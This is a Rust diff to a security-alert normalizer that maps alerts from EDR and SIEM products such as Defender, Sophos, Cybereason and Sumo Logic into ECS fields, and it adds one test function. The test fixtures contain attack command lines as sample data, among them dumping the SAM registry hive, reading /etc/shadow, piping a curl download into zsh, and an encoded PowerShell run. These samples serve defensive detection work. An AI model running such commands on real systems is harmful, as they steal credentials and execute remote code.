@@ -1856,10 +1856,13 @@ pub fn normalize(mut obj: Map<String, Json>) -> (Map<String, Json>, Option<Strin
         let mut mapped = windows_flat(&flat);
         mapped.remove("winlog");
         for k in ["process", "user"] {
-            if let (Some(Json::Object(from)), Some(Json::Object(into))) =
-                (mapped.remove(k), ecs.get_mut(k))
-            {
-                fill(into, from);
+            match (mapped.remove(k), ecs.get_mut(k)) {
+                (Some(Json::Object(from)), Some(Json::Object(into))) => fill(into, from),
+                // The event's account where the ECS mapping named none.
+                (Some(from @ Json::Object(_)), None) => {
+                    ecs.insert(k.to_owned(), from);
+                }
+                _ => {}
             }
         }
     }
@@ -3285,11 +3288,24 @@ fn defender(ecs: &mut Map<String, Json>, id: &mut Option<String>) {
         set("process.parent.executable", exe);
         if named {
             set("process.parent.name", field(img, "FileName"));
+        } else {
+            // (or flat: the parent's `FileName` and `ProcessCommandLine` on the entity)
+            set("process.parent.name", field(Some(pp), "FileName"));
         }
         set(
             "process.parent.command_line",
-            field(Some(pp), "CommandLine"),
+            field(Some(pp), "CommandLine").or_else(|| field(Some(pp), "ProcessCommandLine")),
         );
+        if let Some(gp) = extra.get("GrandParentProcess").filter(|g| g.is_object()) {
+            set(
+                "process.parent.parent.name",
+                field(gp.get("ImageFile"), "FileName").or_else(|| field(Some(gp), "FileName")),
+            );
+            set(
+                "process.parent.parent.command_line",
+                field(Some(gp), "CommandLine").or_else(|| field(Some(gp), "ProcessCommandLine")),
+            );
+        }
         let beside = |k: &str| {
             extra
                 .get(k)
@@ -4243,6 +4259,13 @@ fn derive(e: &mut Map<String, Json>) {
                 Some("linux")
             }
             _ if exe.len() > 2 && exe.as_bytes()[1] == b':' || exe.contains('\\') => {
+                Some("windows")
+            }
+            // A Windows event log's channel or provider (winlogbeat's `winlog`).
+            _ if get_str(&doc, "winlog.channel").is_some()
+                || get_str(&doc, "event.provider")
+                    .is_some_and(|p| p.starts_with("Microsoft-Windows-")) =>
+            {
                 Some("windows")
             }
             // A Windows path anywhere in the chain or its working directory, or a program
@@ -8167,5 +8190,94 @@ mod tests {
             get(&a, "destination.domain"),
             "artifactory.dev.example.local"
         );
+    }
+
+    #[test]
+    fn session_31_shapes() {
+        let get = |a: &Alert, p: &str| get_str(&a.doc, p).unwrap_or_default().to_owned();
+        // Cybereason: a MalOp whose `elementValues.processes` is a flat list (name, commandLine,
+        // parent by name) beside its machines and users.
+        let cr = json!({"malopGuid": "11.9", "guidString": "11.9", "displayName": "reg.exe",
+            "machines": [{"displayName": "app-1", "osType": "WINDOWS"}],
+            "users": [{"displayName": "app-1\\administrator", "admin": true}],
+            "elementValues": {"processes": [
+                {"name": "powershell.exe", "commandLine": "powershell.exe", "parent": "explorer.exe"},
+                {"name": "cmd.exe", "commandLine": "cmd.exe /c reg save HKLM\\SAM C:\\ProgramData\\s.h", "parent": "powershell.exe"},
+                {"name": "reg.exe", "commandLine": "reg save HKLM\\SAM C:\\ProgramData\\s.h", "parent": "cmd.exe"}]}});
+        let a = from_json(cr, "x").unwrap();
+        assert_eq!(get(&a, "process.name"), "reg.exe");
+        assert_eq!(get(&a, "process.parent.name"), "cmd.exe");
+        assert_eq!(get(&a, "host.name"), "app-1");
+        // Google SecOps UDM: no platform recorded, but a product only macOS has.
+        let udm = json!({"metadata": {"event_type": "PROCESS_LAUNCH", "product_name": "Jamf Protect"},
+            "principal": {"hostname": "m1", "process": {"command_line": "-zsh", "file": {"full_path": "/bin/zsh"}}},
+            "target": {"process": {"command_line": "bash x.sh", "file": {"full_path": "/bin/bash"}}}});
+        assert_eq!(get(&from_json(udm, "x").unwrap(), "host.os.type"), "macos");
+        // winlogbeat with ECS process fields and no `user`: the event's own account.
+        let wb = json!({"host": {"name": "dc"}, "event": {"code": "1"},
+            "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "1",
+                "event_data": {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c ver", "User": "NT AUTHORITY\\SYSTEM"}},
+            "process": {"name": "cmd.exe", "pid": 4}});
+        assert_eq!(get(&from_json(wb, "x").unwrap(), "user.name"), "SYSTEM");
+        // A Datadog log item: its host beside its attributes.
+        let dd = json!({"id": "AQ", "type": "log", "attributes": {"host": "lx02", "service": "s",
+            "attributes": {"evt": {"name": "exec"}, "process": {"executable": {"path": "/usr/bin/dash"}, "args": "/opt/a/x.sh", "argv0": "/bin/sh"}}}});
+        assert_eq!(get(&from_json(dd, "x").unwrap(), "host.name"), "lx02");
+        // Sumo Logic Cloud SIEM: an auditd record's ids under `fields`, and Linux as its OS.
+        let sumo = json!({"id": "S1", "name": "r", "allRecords": [
+            {"metadata_vendor": "Linux", "metadata_product": "auditd", "timestamp": 1000, "device_hostname": "b1",
+             "user_username": "rp", "commandLine": "cat /etc/shadow", "fields": {"uid": "0", "euid": "0", "auid": "1142"}}]});
+        let a = from_json(sumo, "x").unwrap();
+        assert_eq!(get(&a, "user.effective.id"), "0");
+        assert_eq!(get(&a, "user.audit.id"), "1142");
+        assert_eq!(get(&a, "host.os.type"), "linux");
+        // Cisco Secure Endpoint: one event as the API answers for it, and a forwarder's
+        // flattened parent command line and grandparent.
+        let cse = json!({"version": "v1.2.0", "data": {"id": 1, "event_type": "Threat Detected", "connector_guid": "g",
+            "computer": {"hostname": "r3", "connector_guid": "g"},
+            "file": {"file_name": "python.exe", "file_path": "C:\\P\\python.exe", "parent": {"file_name": "cmd.exe"}},
+            "command_line": {"arguments": "python.exe a.py"},
+            "parent_command_line": "cmd.exe /c a.cmd", "grandparent": "C:\\Program Files\\T\\worker.exe"}});
+        let a = from_json(cse, "x").unwrap();
+        assert_eq!(get(&a, "process.parent.command_line"), "cmd.exe /c a.cmd");
+        assert_eq!(
+            get(&a, "process.parent.parent.executable"),
+            "C:\\Program Files\\T\\worker.exe"
+        );
+        // Sophos Central: the remediated process known by its path, its command line in the
+        // process tree's entry of the same pid; the tree runs through macOS's own programs.
+        let so = json!({"id": "c2", "type": "Event::Endpoint::CoreBehavioralDetection", "endpoint_id": "e",
+            "name": "Suspicious shell", "location": "MBP-1",
+            "core_remedy_items": {"items": [{"type": "process", "sophosPid": "44102:1334", "descriptor": "/bin/zsh"}]},
+            "process_tree": [{"path": "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "pid": 511},
+                {"path": "/bin/zsh", "cmdline": "/bin/zsh -c curl http://192.0.2.9/s | zsh", "pid": 44102},
+                {"path": "/usr/bin/true", "cmdline": "true", "pid": 44110}]});
+        let a = from_json(so, "x").unwrap();
+        assert_eq!(
+            get(&a, "process.command_line"),
+            "/bin/zsh -c curl http://192.0.2.9/s | zsh"
+        );
+        assert_eq!(get(&a, "process.executable"), "/bin/zsh");
+        assert_eq!(get(&a, "host.os.type"), "macos");
+        // Defender AlertEvidence: the parent and grandparent as flat objects in AdditionalFields.
+        let de = json!({"Type": "AlertEvidence", "EntityType": "Process", "AlertId": "da1", "DeviceName": "fd-1",
+            "FileName": "powershell.exe", "FolderPath": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+            "ProcessCommandLine": "powershell.exe -enc AA==", "AccountName": "svc",
+            "AdditionalFields": "{\"ParentProcess\": {\"FileName\": \"wsmprovhost.exe\", \"ProcessCommandLine\": \"wsmprovhost.exe -Embedding\"}, \"GrandParentProcess\": {\"FileName\": \"svchost.exe\"}}"});
+        let a = from_json(de, "x").unwrap();
+        assert_eq!(get(&a, "process.parent.name"), "wsmprovhost.exe");
+        assert_eq!(
+            get(&a, "process.parent.command_line"),
+            "wsmprovhost.exe -Embedding"
+        );
+        assert_eq!(get(&a, "process.parent.parent.name"), "svchost.exe");
+        // Uptycs: the alert in snake case (`asset_id`, `host_name`, `os`).
+        let up = json!({"id": "u1", "code": "X", "asset_id": "a", "host_name": "db-1", "os": "Red Hat Enterprise Linux 9.4",
+            "metadata": {"path": "/usr/bin/bash", "cmdline": "bash -i", "username": "root",
+                "ancestor_list": "[{\"pid\": 2, \"path\": \"/usr/bin/sh\", \"cmdline\": \"/bin/sh -c bash -i\"}]"}});
+        let a = from_json(up, "x").unwrap();
+        assert_eq!(get(&a, "host.name"), "db-1");
+        assert_eq!(get(&a, "process.parent.command_line"), "/bin/sh -c bash -i");
+        assert_eq!(get(&a, "host.os.type"), "linux");
     }
 }
